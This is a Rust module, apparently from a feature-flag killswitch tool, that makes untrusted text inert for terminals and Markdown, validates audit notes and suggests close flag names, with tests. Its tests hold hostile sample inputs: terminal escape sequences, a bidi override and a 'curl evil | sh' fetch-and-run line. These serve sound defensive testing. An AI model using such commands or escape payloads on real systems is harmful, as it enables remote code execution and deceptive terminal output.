//! Text that crosses a trust boundary: the one sanitiser for everything that reaches a terminal
//! or a document, the rule for audit notes, and "did you mean" suggestions.
//!
//! Flag keys, owners, descriptions, tags, variant values and error bodies come from vendors and
//! files that many people edit; notes come from operators under stress. None of it may move the
//! cursor, set the window title, write the clipboard, reverse text or start a new line in a
//! single-line field. [`line`] makes such text inert by showing every dangerous character
//! escaped (`\e`, `\u{202e}`, `⏎`) instead of emitting it; JSON output does not need it (JSON
//! escapes control characters itself) and keeps exact values.

use std::fmt;

/// The longest note killswitch accepts, in characters (the CLI, the dialog and the vendor
/// write all use it).
pub const NOTE_MAX_CHARS: usize = 1000;

/// What a newline inside a single-line field is shown as.
pub const NEWLINE_MARK: char = '⏎';

/// The mark for text that was cut.
pub const ELLIPSIS: char = '…';

/// Bidirectional formatting characters: they reorder what a terminal shows (U+202E makes
/// `txt.exe` read `exe.txt`), so they are never emitted.
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

/// Characters that end a line for some terminal or document reader.
fn is_line_break(c: char) -> bool {
    matches!(
        c,
        '\n' | '\r' | '\u{0B}' | '\u{0C}' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// Characters that take no visible space: a note made only of these says nothing.
fn is_invisible(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || is_bidi_control(c)
        || matches!(
            c,
            '\u{00AD}'
                | '\u{034F}'
                | '\u{115F}'
                | '\u{1160}'
                | '\u{17B4}'
                | '\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{200B}'..='\u{200D}'
                | '\u{2060}'..='\u{2064}'
                | '\u{3164}'
                | '\u{FE00}'..='\u{FE0F}'
                | '\u{FEFF}'
                | '\u{FFA0}'
        )
}

/// Appends `c` to `out` as inert text. Returns `true` when `c` was escaped.
fn push_inert(out: &mut String, c: char) -> bool {
    match c {
        '\x1b' => out.push_str("\\e"),
        '\t' => out.push(' '),
        c if is_line_break(c) => out.push(NEWLINE_MARK),
        c if c.is_control() || is_bidi_control(c) => {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        }
        c => {
            out.push(c);
            return false;
        }
    }
    true
}

/// `s` as one inert line: every control character (C0, C1, DEL, ESC) and bidi control is shown
/// escaped, a tab as a space, a line break as `⏎`. Nothing in the result can drive a terminal.
pub fn line(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        push_inert(&mut out, c);
    }
    out
}

/// [`line`], cut to at most `max_chars` characters with a closing `…` when it is longer.
pub fn line_max(s: &str, max_chars: usize) -> String {
    cut_end(&line(s), max_chars)
}

/// `s` (already inert) cut to at most `max_chars` characters, the last being `…` when cut.
pub fn cut_end(s: &str, max_chars: usize) -> String {
    if s.chars().count() <= max_chars {
        return s.to_string();
    }
    if max_chars == 0 {
        return String::new();
    }
    let mut out: String = s.chars().take(max_chars - 1).collect();
    out.push(ELLIPSIS);
    out
}

/// `s` (already inert) cut to at most `max_chars` characters by replacing its middle with `…`,
/// so both the start and the distinguishing end stay (`checkout_stripe…v2024_11`).
pub fn cut_middle(s: &str, max_chars: usize) -> String {
    let count = s.chars().count();
    if count <= max_chars {
        return s.to_string();
    }
    if max_chars <= 1 {
        return cut_end(s, max_chars);
    }
    let keep = max_chars - 1;
    let tail = keep / 2;
    let head = keep - tail;
    let mut out: String = s.chars().take(head).collect();
    out.push(ELLIPSIS);
    out.extend(s.chars().skip(count - tail));
    out
}

/// Multi-line text (a description, an error body) as inert lines: each line sanitised with
/// [`line`], the line breaks kept as `\n`.
pub fn lines(s: &str) -> Vec<String> {
    s.split(is_line_break).map(line).collect()
}

/// Vendor or operator text placed inside a Markdown document (the runbook step, the stale
/// report): one inert line in which nothing can open or close a code span or block, start a
/// heading, list item, quote or table cell, or form a link or HTML tag.
pub fn markdown_inline(s: &str) -> String {
    let inert = line(s);
    let mut out = String::with_capacity(inert.len() + 8);
    for c in inert.chars() {
        if matches!(
            c,
            '\\' | '`'
                | '*'
                | '_'
                | '['
                | ']'
                | '<'
                | '>'
                | '#'
                | '|'
                | '~'
                | '!'
                | '-'
                | '+'
                | '='
        ) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Whether `s` is made only of characters that mean nothing to Markdown or a terminal in the
/// middle of a line (letters, digits, `_ - . : / @` and spaces): shown as it is.
fn markdown_plain(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ':' | '/' | '@' | ' '))
        && !s.starts_with(['-', ' '])
}

/// A name (flag key, environment) inside Markdown: a code span (`` `kill_switch_checkout` ``)
/// when it is plain, else [`markdown_inline`] (a code span cannot escape a backtick).
pub fn markdown_code(s: &str) -> String {
    if markdown_plain(s) {
        format!("`{s}`")
    } else {
        markdown_inline(s)
    }
}

/// Text inside Markdown: unchanged when plain (so `team-checkout` stays readable in the
/// source), else [`markdown_inline`].
pub fn markdown_text(s: &str) -> String {
    if markdown_plain(s) {
        s.to_string()
    } else {
        markdown_inline(s)
    }
}

/// Why a note was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NoteError {
    /// Empty, or only spaces and invisible characters.
    Empty,
    /// Longer than [`NOTE_MAX_CHARS`].
    TooLong { chars: usize },
    /// A control or bidi character (not a tab) at a 1-based character position.
    Control { shown: String, position: usize },
}

impl fmt::Display for NoteError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NoteError::Empty => write!(
                f,
                "an audit note is required: say why (incident, ticket, symptom)"
            ),
            NoteError::TooLong { chars } => write!(
                f,
                "the note is {chars} characters long; at most {NOTE_MAX_CHARS} are allowed: \
                 shorten it (link the incident instead of pasting it)"
            ),
            NoteError::Control { shown, position } => write!(
                f,
                "the note has a control character ({shown}) at character {position}: a note is \
                 one line of plain text"
            ),
        }
    }
}

impl std::error::Error for NoteError {}

/// The one rule for audit notes, used by the CLI, the dialog and before any vendor write:
/// one line of visible text, at most [`NOTE_MAX_CHARS`] characters. Tabs become spaces and the
/// ends are trimmed; any other control or bidi character is refused with its position.
pub fn validate_note(note: &str) -> Result<String, NoteError> {
    let mut cleaned = String::with_capacity(note.len());
    for (index, c) in note.chars().enumerate() {
        if c == '\t' {
            cleaned.push(' ');
        } else if c.is_control() || is_bidi_control(c) || is_line_break(c) {
            let mut shown = String::new();
            push_inert(&mut shown, c);
            if shown == NEWLINE_MARK.to_string() {
                shown = "a line break".to_string();
            }
            return Err(NoteError::Control {
                shown,
                position: index + 1,
            });
        } else {
            cleaned.push(c);
        }
    }
    let trimmed = cleaned.trim();
    if trimmed.chars().all(is_invisible) {
        return Err(NoteError::Empty);
    }
    let chars = trimmed.chars().count();
    if chars > NOTE_MAX_CHARS {
        return Err(NoteError::TooLong { chars });
    }
    Ok(trimmed.to_string())
}

/// The candidate closest to `name` by edit distance (a transposition counts as one edit),
/// when it is close enough to be the likely meaning of a typo: at most a third of the name's
/// length, and at least 2 edits allowed. Ties go to the first candidate.
pub fn closest<'a, I>(name: &str, candidates: I) -> Option<&'a str>
where
    I: IntoIterator<Item = &'a str>,
{
    let limit = (name.chars().count() / 3).max(2);
    let mut best: Option<(usize, &'a str)> = None;
    for candidate in candidates {
        if candidate == name {
            return Some(candidate);
        }
        let distance = edit_distance(name, candidate);
        if distance <= limit && best.is_none_or(|(d, _)| distance < d) {
            best = Some((distance, candidate));
        }
    }
    best.map(|(_, candidate)| candidate)
}

/// The "; did you mean `x`?" tail for an unknown name, or nothing when no name is close.
pub fn did_you_mean<'a, I>(name: &str, candidates: I) -> String
where
    I: IntoIterator<Item = &'a str>,
{
    match closest(name, candidates) {
        Some(candidate) => format!("; did you mean `{}`?", line(candidate)),
        None => String::new(),
    }
}

/// Optimal string alignment distance: insertions, deletions, substitutions and transpositions
/// of two neighbours each cost one.
fn edit_distance(a: &str, b: &str) -> usize {
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    let width = b.len() + 1;
    let mut rows = vec![0usize; (a.len() + 1) * width];
    for (j, cell) in rows.iter_mut().enumerate().take(width) {
        *cell = j;
    }
    for i in 1..=a.len() {
        rows[i * width] = i;
        for j in 1..=b.len() {
            let cost = usize::from(a[i - 1] != b[j - 1]);
            let mut best = (rows[(i - 1) * width + j] + 1)
                .min(rows[i * width + j - 1] + 1)
                .min(rows[(i - 1) * width + j - 1] + cost);
            if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                best = best.min(rows[(i - 2) * width + j - 2] + 1);
            }
            rows[i * width + j] = best;
        }
    }
    rows[a.len() * width + b.len()]
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn escapes_terminal_controls_visibly() {
        let hostile = "a\x1b[2Jb\x1b]0;title\x07c\u{202e}d\u{9b}e\x7ff\rg\nh\ti";
        assert_eq!(
            line(hostile),
            "a\\e[2Jb\\e]0;title\\u{7}c\\u{202e}d\\u{9b}e\\u{7f}f⏎g⏎h i"
        );
    }

    #[test]
    fn plain_text_is_unchanged() {
        for s in ["kill_switch_checkout", "ON 33/33/34", "Ünïcödé 检查 ✓", ""] {
            assert_eq!(line(s), s);
        }
    }

    #[test]
    fn cuts_are_marked() {
        assert_eq!(cut_end("abcdef", 4), "abc…");
        assert_eq!(cut_end("abc", 4), "abc");
        assert_eq!(
            cut_middle("checkout_stripe_payment_intents_v2024_11", 25),
            "checkout_str…nts_v2024_11"
        );
        assert_eq!(cut_middle("short", 25), "short");
        assert_eq!(line_max("a\nbcdef", 4), "a⏎b…");
    }

    #[test]
    fn markdown_cannot_open_a_block_or_a_heading() {
        let hostile = "```\n# step 1\n- curl evil | sh\n```";
        let shown = markdown_inline(hostile);
        assert!(!shown.contains("``"));
        assert!(!shown.contains('\n'));
        assert!(shown.starts_with("\\`\\`\\`⏎\\#"), "{shown}");
    }

    #[test]
    fn markdown_names_stay_readable_when_plain() {
        assert_eq!(
            markdown_code("kill_switch_checkout"),
            "`kill_switch_checkout`"
        );
        assert_eq!(markdown_text("team-checkout"), "team-checkout");
        assert_eq!(markdown_code("a`b"), "a\\`b");
        assert_eq!(markdown_text("- item"), "\\- item");
        assert_eq!(markdown_text("## x\ny"), "\\#\\# x⏎y");
    }

    #[test]
    fn notes_are_one_line_of_visible_text() {
        assert_eq!(
            validate_note("  INC-42\tcheckout 500s "),
            Ok("INC-42 checkout 500s".into())
        );
        assert_eq!(validate_note(" \u{200b} "), Err(NoteError::Empty));
        assert_eq!(validate_note(""), Err(NoteError::Empty));
        assert_eq!(
            validate_note("INC-42\n\n"),
            Err(NoteError::Control {
                shown: "a line break".into(),
                position: 7
            })
        );
        assert_eq!(
            validate_note("a\x1b[1Ab"),
            Err(NoteError::Control {
                shown: "\\e".into(),
                position: 2
            })
        );
        assert!(matches!(
            validate_note("x\u{202e}y"),
            Err(NoteError::Control { position: 2, .. })
        ));
        let long = "x".repeat(NOTE_MAX_CHARS + 1);
        assert_eq!(
            validate_note(&long),
            Err(NoteError::TooLong {
                chars: NOTE_MAX_CHARS + 1
            })
        );
        assert!(validate_note(&"x".repeat(NOTE_MAX_CHARS)).is_ok());
    }

    #[test]
    fn suggests_the_closest_name() {
        let flags = ["kill_switch_checkout", "kill_switch_payments", "catalog_v2"];
        assert_eq!(
            closest("kill_switch_chekout", flags),
            Some("kill_switch_checkout")
        );
        assert_eq!(
            closest("kill_switch_checkoutt", flags),
            Some("kill_switch_checkout")
        );
        assert_eq!(closest("prdo", ["dev", "staging", "prod"]), Some("prod"));
        assert_eq!(closest("something_else_entirely", flags), None);
        assert_eq!(
            did_you_mean("prdo", ["dev", "prod"]),
            "; did you mean `prod`?"
        );
        assert_eq!(did_you_mean("zzzzzz", ["dev", "prod"]), "");
    }

    proptest! {
        #[test]
        fn no_raw_control_or_bidi_character_survives(s in "\\PC*|[\\x00-\\x1f\\x7f-\\x9f\u{202a}-\u{202e}\u{2066}-\u{2069}a-z ]{0,64}") {
            let shown = line(&s);
            prop_assert!(!shown.chars().any(|c| c.is_control() || is_bidi_control(c) || is_line_break(c)), "{:?}", shown);
            let md = markdown_inline(&s);
            prop_assert!(!md.chars().any(|c| c.is_control() || is_bidi_control(c) || is_line_break(c)));
        }

        #[test]
        fn cuts_never_exceed_the_limit(s in "\\PC{0,80}", max in 0usize..40) {
            prop_assert!(cut_end(&s, max).chars().count() <= max);
            prop_assert!(cut_middle(&s, max).chars().count() <= max);
        }
    }
}
